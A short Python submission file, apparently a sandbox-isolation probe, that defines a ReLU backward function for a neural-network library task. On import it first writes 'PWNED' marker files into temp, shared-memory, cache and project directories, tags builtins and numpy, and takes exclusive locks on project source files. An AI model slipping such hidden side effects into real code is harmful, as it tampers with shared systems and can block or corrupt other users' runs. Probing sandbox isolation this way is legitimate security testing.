"""Leaves messages for the next submission wherever it can: caches, scratch space, modules, memory, locks."""

# %% relu_backward
import builtins
import fcntl
import glob
import os
import sys
import tempfile

import numpy as np

text = "PWNED: a message from another submission"
caches = {os.environ.get("NUMBA_CACHE_DIR", "/tmp"), tempfile.gettempdir(), "/dev/shm", "/var/tmp"}
for folder in (*caches, "/tmp/numba", "/box", "/box/nnlib", "/box/nnlib/nnlib/__pycache__", "/run"):
    try:
        os.makedirs(folder, exist_ok=True)
        for name in ("nnlib_attack_mark.py", "activations.softmax.nbi", "message"):
            with open(f"{folder}/{name}", "w") as file:
                file.write(f"print({text!r})\n")
    except OSError:
        pass
builtins.nnlib_attack_mark = np.nnlib_attack_mark = sys.nnlib_attack_mark = text
for path in (glob.glob("/box/*.py") + sorted(glob.glob("/box/nnlib/**/*.py", recursive=True)))[:40]:
    fcntl.flock(os.open(path, os.O_RDONLY), fcntl.LOCK_EX | fcntl.LOCK_NB)


def relu_backward(dout, a):
    return np.where(a > 0, dout, 0.0)
